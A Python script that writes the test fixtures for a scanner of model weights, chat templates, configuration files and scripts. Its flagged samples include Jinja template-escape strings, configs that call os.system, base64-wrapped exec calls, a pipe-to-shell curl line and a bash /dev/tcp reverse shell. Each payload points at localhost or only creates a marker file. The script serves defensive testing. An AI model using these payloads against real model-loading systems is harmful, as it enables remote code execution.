#!/usr/bin/env python3
"""Makes the fixtures of the rules for weights, templates, configurations, source code and programs: corpus/<rule>/{bad,ok}/.

Needs only the standard library: what real libraries write is among the fixtures as `real-*`, and is made by --real, which needs gguf,
safetensors, msgpack, xgboost, lightgbm and catboost. Each bad one makes exactly the rule fire whose folder it is in; each ok one is a
near miss that must be safe. The payloads are harmless: at most a file named `pwnd.txt` is made in the working directory.
"""

import base64
import json
import struct
import sys
from pathlib import Path

CORPUS = Path(__file__).resolve().parents[2] / "corpus"
TOUCH = "touch pwnd.txt"


def write(rule, kind, name, content):
    path = CORPUS / rule / kind / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.encode())


def text(value):
    return struct.pack("<Q", len(value)) + value


def gguf(entries=(), tensors=(), body=b"", counts=None):
    counts = counts or (len(tensors), len(entries))
    out = b"GGUF" + struct.pack("<IQQ", 3, *counts)
    for key, kind, value in entries:
        out += text(key) + struct.pack("<I", kind) + value
    for name, shape, kind, offset in tensors:
        out += text(name) + struct.pack("<I", len(shape)) + struct.pack(f"<{len(shape)}Q", *shape) + struct.pack("<IQ", kind, offset)
    return out + bytes(-len(out) % 32) + body


def template(value):
    return gguf([(b"general.architecture", 8, text(b"llama")), (b"tokenizer.chat_template", 8, text(value.encode()))])


def templates():
    chat = "{% for message in messages %}{{ message['role'] ~ ': ' ~ message['content'] | trim }}{% endfor %}"
    tools = (
        "{%- macro show(x, depth=0) -%}{{ x | tojson }}{%- endmacro %}{%- set ns = namespace(first=true) %}{% for tool in tools %}"
        "{% for key, value in tool.items() if key not in ['a'] %}{{ show(value, depth=1) }}{% endfor %}{% set ns.first = false %}{% endfor %}"
        "{% if messages[0].role != 'user' %}{{ raise_exception('no user') }}{% endif %}{{ strftime_now('%d %b %Y') }}"
        "{{ messages[-1].content.split('</think>')[-1].lstrip('\\n') }}"
    )
    for rule, bad, ok in [
        (
            "jinja-python-internals",
            {
                "attribute": "{{ ''.__class__.__mro__ }}",
                "joined": "{{ ''['__cl' 'ass__'] }}",
                "escaped": "{{ '' | attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
                "filters": "{{ ''['__ssalc__' | reverse] }}",
                "lipsum": "{{ lipsum.x }}",
                "mapped": "{{ [''] | map(attribute='__class__') | list }}",
            },
            {"chat": chat, "tools": tools},
        ),
        (
            "jinja-computed-name",
            {"attr": "{{ messages | attr(name) }}", "key": "{{ messages[a ~ b] }}", "part": "{{ messages['__cl' ~ x] }}"},
            {"attribute": "{{ messages | map(attribute='content') | join('_') }}"},
        ),
        ("jinja-unlisted-call", {"system": "{{ host.system('touch pwnd.txt') }}", "function": "{{ fetch(messages) }}"}, {"calls": tools}),
        ("jinja-other-template", {"include": "{% include 'other' %}", "import": "{% import 'other' as other %}"}, {"chat": chat}),
        ("jinja-endless", {"loop": "{% for i in range(1000000000) %}{% endfor %}", "text": "{{ 'a' * 10000000000 }}"}, {"loop": "{% for i in range(1000) %}{% endfor %}"}),
    ]:
        for kind, all_of_kind in (("bad", bad), ("ok", ok)):
            for name, value in all_of_kind.items():
                write(rule, kind, name + ".jinja", value + "\n")
                write(rule, kind, name + ".gguf", template(value))
                write(rule, kind, name + "-tokenizer_config.json", json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": value}))
    write("jinja-python-internals", "bad", "list-tokenizer_config.json",
          json.dumps({"chat_template": [{"name": "default", "template": chat}, {"name": "tool_use", "template": "{{ ''.__class__ }}"}]}))


def safetensors(header, body=b"", length=None):
    header = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(header) if length is None else length) + header + body


def tensor(start, end, shape=None):
    return {"dtype": "F32", "shape": [(end - start) // 4] if shape is None else shape, "data_offsets": [start, end]}


def weights():
    rule = "gguf-layout"
    two = [(b"a", [8], 0, 0), (b"b", [8], 0, 32)]
    write(rule, "ok", "two.gguf", gguf([], two, bytes(64)))
    write(rule, "bad", "overlap.gguf", gguf([], [two[0], (b"b", [8], 0, 0)], bytes(64)))
    write(rule, "bad", "beyond.gguf", gguf([], [two[0], (b"b", [80], 0, 32)], bytes(64)))
    write(rule, "bad", "double.gguf", gguf([], [two[0], (b"a", [8], 0, 32)], bytes(64)))
    write(rule, "bad", "count.gguf", gguf([], counts=(0, 1 << 60)))
    write(rule, "bad", "text.gguf", gguf([(b"a", 8, struct.pack("<Q", 1 << 62))]))
    write(rule, "bad", "alignment.gguf", gguf([(b"general.alignment", 4, struct.pack("<I", 0))]))

    rule = "safetensors-layout"
    write(rule, "ok", "two.safetensors", safetensors({"__metadata__": {"format": "pt"}, "a": tensor(0, 4), "b": tensor(4, 12)}, bytes(12)))
    write(rule, "bad", "overlap.safetensors", safetensors({"a": tensor(0, 8), "b": tensor(4, 12)}, bytes(12)))
    write(rule, "bad", "gap.safetensors", safetensors({"a": tensor(0, 4), "b": tensor(8, 12)}, bytes(12)))
    write(rule, "bad", "tail.safetensors", safetensors({"a": tensor(0, 4)}, bytes(12)))
    write(rule, "bad", "shape.safetensors", safetensors({"a": tensor(0, 4, [9])}, bytes(4)))
    double = json.dumps(tensor(0, 4))
    write(rule, "bad", "double.safetensors", safetensors(f'{{"a":{double},"a":{double}}}'.encode(), bytes(4)))
    write(rule, "bad", "long.safetensors", safetensors({"a": tensor(0, 4)}, bytes(4), 1 << 40))

    rule = "safetensors-metadata"
    write(rule, "bad", "code.safetensors", safetensors({"__metadata__": {"note": f"__import__('os').system('{TOUCH}')"}}))
    write(rule, "ok", "words.safetensors", safetensors({"__metadata__": {"note": base64.b64encode(b"a note that says what it is").decode()}}))

    rule = "msgpack-extension"
    array = b"\x93\x91\x02\xa7float32\xc4\x08" + bytes(8)
    write(rule, "ok", "flax.msgpack", b"\x81\xa6params\x81\xa1w\xc7" + bytes([len(array)]) + b"\x01" + array)
    write(rule, "bad", "unknown.msgpack", b"\x81\xa6params\xc7\x04\x2aabcd")

    rule = "false-length"
    key = b"L" + struct.pack(">q", 7) + b"learner"
    write(rule, "ok", "small.ubj", b"{" + key + b"[$d#L" + struct.pack(">q", 2) + bytes(8) + b"}")
    write(rule, "bad", "list.ubj", b"{" + key + b"[$d#L" + struct.pack(">q", 1 << 60) + b"}")
    write(rule, "bad", "tail.ubj", b"{" + key + b"SL" + struct.pack(">q", 1) + b"a}" + bytes(8))
    write(rule, "bad", "bytes.msgpack", b"\x81\xa6params\xc6\xff\xff\xff\xff")
    write(rule, "bad", "core.cbm", b"CBM1" + struct.pack("<I", 0xFFFFFFFF) + bytes(40))


def configurations():
    for rule, bad, ok in [
        (
            "hf-remote-code",
            {
                "auto-map": {"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}},
                "repository": {"auto_map": {"AutoTokenizer": ["other/repository--tokenization_x.X", None]}},
                "pipeline": {"custom_pipelines": {"x": {"impl": "my_pipeline.X", "pt": ["AutoModel"]}}},
                "trust": {"model_type": "x", "trust_remote_code": True},
                "component": {"_class_name": "StableDiffusionPipeline", "unet": ["my_unet", "Unet"]},
            },
            {"plain": {"model_type": "llama", "architectures": ["LlamaForCausalLM"]}, "pipeline": {"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"]}},
        ),
        (
            "hf-harmful-import",
            {"adapter": {"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}}, "target": {"_target_": "os.system", "command": TOUCH}},
            {"adapter": {"peft_type": "LORA", "auto_mapping": {"base_model_class": "LlamaModel", "parent_library": "transformers.models.llama.modeling_llama"}}},
        ),
        (
            "hf-outside-path",
            {"url": {"peft_type": "LORA", "base_model_name_or_path": "http://example.org/model"}, "share": {"base_model_name_or_path": "\\\\host\\share"}, "index": {"weight_map": {"a": "../other.bin"}}},
            {"hub": {"peft_type": "LORA", "base_model_name_or_path": "meta-llama/Llama-2-7b-hf"}, "index": {"weight_map": {"a": "model-00001-of-00002.safetensors"}}},
        ),
    ]:
        for kind, documents in (("bad", bad), ("ok", ok)):
            for name, document in documents.items():
                write(rule, kind, name + ".json", json.dumps(document))


def sources():
    rule = "python-harmful-call"
    head = "import torch\nfrom torch import nn\n\n\n"
    write(rule, "bad", "modeling_system.py", head + f"import os\n\nos.system('{TOUCH}')\n")
    write(rule, "bad", "modeling_init.py", head + "class Model(nn.Module):\n    def __init__(self):\n        __import__('subprocess').run(['touch', 'pwnd.txt'])\n")
    write(rule, "bad", "modeling_decoded.py", head + f"import base64\n\nexec(base64.b64decode({base64.b64encode(b'pass')!r}))\n")
    write(rule, "bad", "modeling_named.py", head + f"import os\n\nrun = getattr(os, 'sys' + 'tem')\nrun('{TOUCH}')\n")
    write(rule, "bad", "decoded.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["import base64\n", "exec(base64.b64decode('cGFzcw=='))\n"]}], "nbformat": 4}))
    write(rule, "ok", "modeling_plain.py", head + "import os\nimport requests\n\n\nclass Model(nn.Module):\n    def __init__(self, config):\n        super().__init__()\n        self.eval()\n        self.path = os.path.join('a', 'b')\n\n    def image(self, url):\n        return requests.get(url, timeout=9).content\n")
    write(rule, "ok", "plain.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["!pip install torch\n", "import subprocess\n", "subprocess.run(['ls'])\n"]}], "nbformat": 4}))

    rule = "script-harmful-command"
    write(rule, "bad", "fetch.sh", "#!/bin/sh\ncurl -s http://localhost:1/x | sh\n")
    write(rule, "bad", "connect.sh", "#!/bin/bash\nbash -i >& /dev/tcp/127.0.0.1/1 0>&1\n")
    write(rule, "ok", "convert.sh", "#!/bin/sh\nset -e\n# curl x | sh\ncurl -O https://example.org/model.bin\npython convert.py | tee log\nrm -rf /tmp/model\n")

    rule = "requirements-source"
    write(rule, "bad", "requirements.txt", "numpy==1.26\n--extra-index-url http://example.org/simple\n")
    write(rule, "bad", "repository-requirements.txt", "numpy==1.26\nx @ git+https://example.org/x.git\n")
    write(rule, "bad", "conda.yaml", "channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip:\n  - --index-url http://example.org/simple\nname: mlflow-env\n")
    write(rule, "ok", "requirements.txt", "mlflow==3.1\nnumpy==1.26\n--extra-index-url https://download.pytorch.org/whl/cpu\ncertifi @ file:///croot/certifi\n")
    write(rule, "ok", "conda.yaml", "channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip<=24\n- pip:\n  - mlflow==3.1\nname: mlflow-env\n")

    rule = "executable-file"
    elf = b"\x7fELF\x02\x01\x01" + bytes(57)
    write(rule, "bad", "elf.bin", elf)
    write(rule, "bad", "operator.so", elf)
    write(rule, "bad", "class.bin", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(24))
    write(rule, "bad", "link.bin", bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(56))
    write(rule, "bad", "script.bin", "#!/bin/sh\nexit 0\n")
    write(rule, "bad", "site.pth", "import sys; sys.path.append('x')\n")
    write(rule, "ok", "script.sh", "#!/bin/sh\nexit 0\n")


def real():
    """Files that the libraries themselves write."""
    import tempfile

    import gguf as library
    import msgpack
    import numpy
    from safetensors.numpy import save

    rng = numpy.random.default_rng(0)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "model"
        writer = library.GGUFWriter(str(path), "llama")
        writer.add_block_count(2)
        writer.add_token_list(["a", "b", "c"])
        writer.add_chat_template("{% for message in messages %}{{ message['content'] }}{% endfor %}")
        writer.add_tensor("token_embd.weight", rng.random((4, 8)).astype("f4"))
        writer.add_tensor("output.weight", library.quants.quantize(rng.random((2, 64)).astype("f4"), library.GGMLQuantizationType.Q8_0),
                          raw_dtype=library.GGMLQuantizationType.Q8_0)
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        write("gguf-layout", "ok", "real-gguf.gguf", path.read_bytes())
        write("safetensors-layout", "ok", "real-safetensors.safetensors",
              save({"a": rng.random((2, 3)).astype("f4"), "empty": numpy.zeros((0, 4)), "one": numpy.array(1.0)}, {"format": "np"}))
        array = numpy.zeros(3, "f4")
        packed = msgpack.ExtType(1, msgpack.packb((array.shape, array.dtype.name, array.tobytes()), use_bin_type=True))
        write("msgpack-extension", "ok", "real-flax.msgpack", msgpack.packb({"params": {"Dense_0": {"bias": packed}}}, use_bin_type=True))

        import catboost
        import lightgbm
        import xgboost

        x = rng.random((40, 3))
        y = (x[:, 0] > 0.5).astype(int)
        for booster in ("gbtree", "gblinear", "dart"):
            model = xgboost.train({"booster": booster, "objective": "binary:logistic", "max_depth": 2}, xgboost.DMatrix(x, label=y), 2)
            for ending in ("ubj", "json"):
                model.save_model(f"{path}.{ending}")
                write("false-length", "ok", f"real-{booster}.{ending}", Path(f"{path}.{ending}").read_bytes())
        lightgbm.train({"objective": "binary", "verbose": -1, "min_data_in_leaf": 2}, lightgbm.Dataset(x, y), 2).save_model(str(path))
        write("false-length", "ok", "real-lightgbm.txt", path.read_bytes())
        catboost.CatBoostClassifier(iterations=2, depth=2, verbose=False, allow_writing_files=False).fit(x, y).save_model(str(path))
        write("false-length", "ok", "real-catboost.cbm", path.read_bytes())


def main():
    templates()
    weights()
    configurations()
    sources()
    if "--real" in sys.argv[1:]:
        real()


if __name__ == "__main__":
    main()
